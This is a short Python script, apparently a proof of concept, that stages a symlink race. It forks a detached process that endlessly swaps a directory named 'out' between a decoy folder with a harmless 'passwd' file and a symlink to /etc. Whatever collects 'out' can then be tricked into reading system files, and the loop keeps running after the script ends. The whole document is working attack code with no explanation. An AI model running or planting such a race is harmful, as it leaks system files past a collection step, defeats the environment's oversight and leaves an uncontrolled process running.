# What is collected changes between folder and link as fast as it can, also after the end.
import os
os.mkdir("real")
open("real/passwd", "w").write("harmless")
os.symlink("/etc", "link")
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename("real", "out")
        os.rename("out", "real")
        os.rename("link", "out")
        os.rename("out", "link")
print("swapping")
